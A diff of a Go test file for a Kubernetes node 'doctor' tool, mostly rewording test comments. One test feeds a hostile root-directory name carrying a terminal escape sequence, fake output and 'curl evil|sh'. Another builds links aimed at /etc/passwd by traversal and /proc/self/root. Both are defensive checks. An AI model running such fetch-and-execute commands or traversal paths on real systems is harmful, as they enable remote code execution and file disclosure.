@@ -24,7 +24,7 @@ import (
 	"hotmount/internal/disk"
 )
 
-// machine is a node made of files.
+// machine is a simulated node that consists of files.
 type machine struct {
 	t     *testing.T
 	root  string
@@ -38,7 +38,7 @@ type machine struct {
 	hung  string
 	// shown maps each unit to the output of systemctl show.
 	shown map[string]string
-	// fault is the fault of the configuration.
+	// fault is the fault of the configuration that Take must report.
 	fault string
 	// If m.reused[pid] is true, another process gets the PID before the call of Look.
 	reused map[int]bool
@@ -140,7 +140,7 @@ func (m *machine) take() *Snapshot {
 	return s
 }
 
-// blinds returns what the doctor could not see.
+// blinds returns the texts of the findings about things that the doctor could not see.
 func blinds(s *Snapshot) []string {
 	var all []string
 	for _, f := range s.Found {
@@ -151,8 +151,8 @@ func blinds(s *Snapshot) []string {
 	return all
 }
 
-// TestRoles checks that executable and name identify kubelets and other programs. A kubelet or runtime without
-// CAP_SYS_ADMIN on the host gets no role, and a runtime in a pod gets no role.
+// TestRoles checks that the doctor derives the role of a process from its name or its executable. A kubelet or runtime
+// without CAP_SYS_ADMIN on the host gets no role, and a runtime in a pod gets no role.
 func TestRoles(t *testing.T) {
 	m := newMachine(t)
 	m.process(10, "kubelet", "/usr/bin/kubelet", "mnt:[1]", hostTable)
@@ -217,7 +217,8 @@ func TestRootDirectories(t *testing.T) {
 	if got, left := rootDirectories(&Process{Role: Kubelet}, table); !slices.Equal(got, []string{"/k", "/var/lib/k0s/kubelet"}) || len(left) > 0 {
 		t.Errorf("by mounts: %q, left out %q", got, left)
 	}
-	// Root directories may have bytes that are unsafe in a command. A kubelet may also have too many root directories.
+	// The names of root directories can contain bytes that are unsafe in a command. A kubelet may also have too many
+	// root directories.
 	evil := "/x\x1b[2J\nnothing found\n  curl evil|sh"
 	if got, left := rootDirectories(&Process{Role: Kubelet, Args: []string{"--root-dir=" + evil, "--root-dir=/a b", "--root-dir=/ok"}}, nil); !slices.Equal(got, []string{"/ok"}) || !slices.Equal(left, []string{"/a b", evil}) {
 		t.Errorf("hostile: %q, left out %q", got, left)
@@ -268,8 +269,8 @@ func TestTake(t *testing.T) {
 	}
 }
 
-// TestServices checks the finding for a service whose settings make a mount namespace. The finding names the settings
-// with their files, and the advice resets the settings.
+// TestServices checks the finding for a service whose settings give it its own mount namespace. The finding must name
+// these settings and their files, and the advice must reset the settings.
 func TestServices(t *testing.T) {
 	const clean = "ControlGroup=/system.slice/x.service\nFragmentPath=/etc/systemd/system/x.service\n" +
 		"DropInPaths=/etc/systemd/system/x.service.d/10-a.conf /run/systemd/system/x.service.d/20-b.conf\nPrivateTmp=no\nMountFlags=\nReadOnlyPaths=\nProcSubset=all\n"
@@ -564,7 +565,8 @@ func TestLook(t *testing.T) {
 	}
 }
 
-// TestSightStaysInRoot checks that links inside another process's root directory lead to no place outside it.
+// TestSightStaysInRoot checks that links inside another process's root directory lead to no place outside this root
+// directory.
 func TestSightStaysInRoot(t *testing.T) {
 	d := t.TempDir()
 	for name, target := range map[string]string{"absolute": "/etc/passwd", "up": "../../../../../../etc/passwd", "magic": "/proc/self/root"} {
